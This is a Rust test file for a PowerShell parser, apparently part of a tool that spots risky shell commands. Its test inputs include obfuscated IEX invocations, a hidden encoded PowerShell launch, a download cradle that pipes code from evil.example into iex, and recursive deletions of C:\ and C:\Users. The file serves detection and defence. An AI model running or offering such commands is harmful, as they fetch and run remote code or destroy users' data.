//! Tests of reading PowerShell.

use super::*;
use crate::action::{Fact, Layer, Modifier, PathScope, Scope};

#[track_caller]
fn check(script: &str, expected: &[&str]) {
    let (units, _) = units(script, &Place::default());
    let texts: Vec<&str> = units.iter().map(|unit| unit.text.as_str()).collect();
    assert_eq!(texts, expected, "{script}");
}

#[track_caller]
fn check_programs(script: &str, expected: &[&str]) {
    let (units, _) = units(script, &Place::default());
    let programs: Vec<&str> =
        units.iter().flat_map(|unit| &unit.commands).map(|command| command.program.as_str()).collect();
    assert_eq!(programs, expected, "{script}");
}

#[test]
fn statements_and_pipelines_are_units() {
    check(
        "Get-Process | Sort-Object CPU; ls C:\\x\ncd ..",
        &["get-process | sort-object ⟦data⟧'CPU'", "ls C:\\x", "cd .."],
    );
    check(
        "Get-Item a |\n  Remove-Item -Recurse -FORCE",
        &["get-item a | remove-item -recurse -force", "remove-item -recurse -force"],
    );
    check("# note\nls <# more #> -Force", &["ls -force"]);
}

#[test]
fn quotes_and_constants_are_resolved() {
    check("Remove-Item 'a b' \"c\"", &["remove-item 'a b' c"]);
    check("$p = 'C:\\x'; Remove-Item \"$p\\y\"", &["$p = 'C:\\x'", "remove-item C:\\x\\y"]);
    check("ls $env:TEMP\\a", &["ls ~\\AppData\\Local\\Temp\\a"]);
    check("ls $undefined", &["ls $undefined"]);
}

#[test]
fn disguised_names_are_resolved() {
    check_programs("& ('I'+'EX') 'ls'", &["iex", "ls"]);
    check_programs("I`E`X 'ls'", &["iex", "ls"]);
    check_programs("$x = 'iex'; & $x 'ls'", &["iex", "ls"]);
    check_programs("&('{1}{0}' -f 'x','ie') ls", &["iex", "ls"]);
    check_programs("& ([char]105+[char]0x65+'x') ls", &["iex", "ls"]);
    check_programs("'ls' | iex", &["iex", "iex", "ls"]);
    let (_, gaps) = units("I`E`X 'ls'", &Place::default());
    assert!(gaps.contains(Gap::OddSpelling));
}

#[test]
fn encoded_commands_are_opened() {
    let (units, _) = units("powershell -nop -w hidden -enc bABzACAAQwA6AFwA", &Place::default());
    assert!(units.iter().any(|unit| unit.text == "ls C:\\" && unit.layers == [Layer::Decoded]));
    check_programs("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bHMgQzpc')))", &["iex", "ls"]);
}

#[test]
fn other_shells_inside_are_opened() {
    check_programs("powershell -Command \"Remove-Item x\"", &["powershell", "remove-item"]);
    check_programs("cmd /c \"del x\"", &["cmd", "del"]);
    check_programs("Start-Process powershell -ArgumentList '-c Remove-Item x'", &["start-process", "remove-item"]);
}

#[test]
fn commands_in_brackets_and_blocks_are_units() {
    check_programs("if (Test-Path x) { Remove-Item x } else { ls }", &["test-path", "remove-item", "ls"]);
    check_programs("foreach ($f in Get-ChildItem) { rm $f }", &["get-childitem", "rm"]);
    check_programs("ls | % { rm $_ }", &["ls", "%", "rm"]);
    check_programs("echo \"$(whoami)\"", &["echo", "whoami"]);
    check_programs("$x = (New-Object Net.WebClient).DownloadString('http://x')", &["new-object"]);
    check_programs("function f($a) { rm $a }\nf x", &["rm", "f"]);
}

#[test]
fn net_methods_have_effects() {
    let (units, _) =
        units("(New-Object Net.WebClient).DownloadString('http://evil.example/x') | iex", &Place::default());
    let facts: Vec<_> = units.iter().flat_map(Unit::effects).map(|effect| effect.fact).collect();
    assert!(facts.contains(&crate::action::Fact::Download));
    assert!(units.iter().any(|unit| unit.flows.contains(crate::action::Flow::NetworkToExecution)));
}

#[test]
fn stages_that_do_more_than_look_are_units_of_their_own() {
    let (units, _) = units(&format!("{}rm C:\\Users -Recurse", "ls | ".repeat(50)), &Place::default());
    assert_eq!(units.last().map(|unit| unit.text.as_str()), Some("rm C:\\Users -recurse"));
    check("ls | sort | select x", &["ls | sort | select x"]);
}

#[test]
fn a_statement_begins_behind_the_parameters_of_a_function() {
    check_programs("function f { param($p) Remove-Item $p -Recurse }; f x", &["remove-item", "f"]);
    check_programs("& { param ($p) rm $p } x", &["{param ($p) rm $p}", "rm"]);
    check_programs("icm -ScriptBlock { param($p) rm $p }", &["icm", "rm"]);
    check_programs("[CmdletBinding()] param([string]$p = 'x') rm $p", &["rm"]);
    check_programs("[CmdletBinding()]param($p) rm $p", &["rm"]);
    check_programs("param($p = (rm x)) ls", &["rm", "ls"]);
}

#[test]
fn a_method_called_on_each_object_has_its_effect() {
    for script in ["ls | % Delete", "ls | ForEach-Object Delete", "gps | % Kill"] {
        let (units, _) = units(script, &Place::default());
        let mut facts = units.iter().flat_map(Unit::effects).map(|effect| effect.fact);
        assert!(facts.any(|fact| matches!(fact, Fact::Delete | Fact::Kill)), "{script}");
    }
    check_programs("ls | ? Name -eq x", &["ls", "?"]);
}

#[test]
fn net_methods_on_files_name_their_path() {
    let place = Place { home: Some("C:\\Users\\me".to_owned()), ..Place::default() };
    let (units, _) = units("[IO.Directory]::Delete('C:\\Users\\me',$true)", &place);
    let effect = units.iter().flat_map(Unit::effects).find(|effect| effect.fact == Fact::Delete).cloned();
    let effect = effect.expect("a deletion");
    assert!(effect.modifiers.contains(Modifier::Recursive));
    assert_eq!(effect.target.map(|target| target.scope), Some(Scope::Path(PathScope::HomeRoot)));
}

#[test]
fn a_refused_dry_run_is_none() {
    let dry = |script: &str| {
        let (units, _) = units(script, &Place::default());
        units.iter().flat_map(Unit::effects).any(|effect| effect.modifiers.contains(Modifier::DryRun))
    };
    assert!(dry("Remove-Item x -WhatIf") && dry("Remove-Item x -WhatIf:$true"));
    for script in [
        "Remove-Item x -WhatIf:$false",
        "Remove-Item x -wi:0",
        "Remove-Item x -whati:$no",
        "Remove-Item x -WhatIf: $false",
    ] {
        assert!(!dry(script), "{script}");
    }
}

#[test]
fn text_piped_into_a_shell_is_a_script() {
    check_programs("'rd /s /q C:\\' | cmd", &["cmd", "cmd", "rd"]);
    check_programs("echo 'rm x' | powershell -", &["echo", "powershell", "powershell", "rm"]);
}

#[test]
fn lists_and_tables_are_no_commands() {
    check_programs("select @{l='Owner';e={$_.x}}", &["select"]);
    check_programs("$x = @{ a = Get-Date; b = 5 }", &["get-date"]);
    check("f.m('a','b')", &["f.m ('a','b')"]);
    check("Stop-Process x -ea Stop", &["stop-process x -ea Stop"]);
    check("echo ($a).b('c')", &["echo ($a).b('c')"]);
    check("$w.M('a','b')", &["$w.M('a','b')"]);
    check_programs("ls | % { rm $_ -ErrorAction Stop }", &["ls", "%", "rm"]);
}

#[test]
fn long_strings_are_data() {
    let (units, _) = units(&format!("Set-Content a.txt '{}'", "some words ".repeat(40)), &Place::default());
    assert!(
        units.iter().any(|unit| unit.kind == UnitKind::Data) && units.first().is_some_and(|unit| unit.text.len() < 120)
    );
}

#[test]
fn looks_are_told_from_bash() {
    for script in [
        "Get-ChildItem -Recurse",
        "$x = 5",
        "cd x; Remove-Item y",
        "[System.IO.File]::Delete('x')",
        "iex (iwr x)",
        "$env:A = 'b'",
        "ls | Where-Object { $_ }",
        "get-process",
    ] {
        assert!(looks_like(script), "{script}");
    }
    for script in [
        "ls -la",
        "apt-get install x",
        "git add -A",
        "add-apt-repository x",
        "echo 'Get-ChildItem'",
        "$x foo",
        "[ -f x ] && y",
        "x=$(foo-bar)",
        "grep Get-Item x",
        "update-alternatives --config x",
        "test-runner",
        "pip install a",
        "[[ -f x ]]",
        "set-env x",
        "start-stop-daemon",
        "sort-imports a",
        "$HOME/bin/x",
        "${x}",
    ] {
        assert!(!looks_like(script), "{script}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    for script in [
        "(".repeat(5000),
        "{".repeat(5000),
        "$(".repeat(5000),
        "\"$(".repeat(5000),
        "'".to_owned(),
        "@'\nx".to_owned(),
        "\"".repeat(4999),
        "`".repeat(5001),
        "${".repeat(5000),
        "<#".repeat(5000),
        "a".repeat(1_000_000),
        "$x=".repeat(5000),
        "if(".repeat(3000),
        "& ".repeat(5000),
        "|".repeat(5000),
        "iex ".repeat(5000),
        "cmd /c powershell ".repeat(2000),
        "('a'+".repeat(3000),
        ",".repeat(9000),
        "'a',".repeat(9000),
        "\u{e9}\u{1f600}$\u{e9}".repeat(500),
    ] {
        let (units, _) = units(&script, &Place::default());
        assert!(units.len() <= 2 * limits::MAX_UNITS + 1);
        looks_like(&script);
    }
}
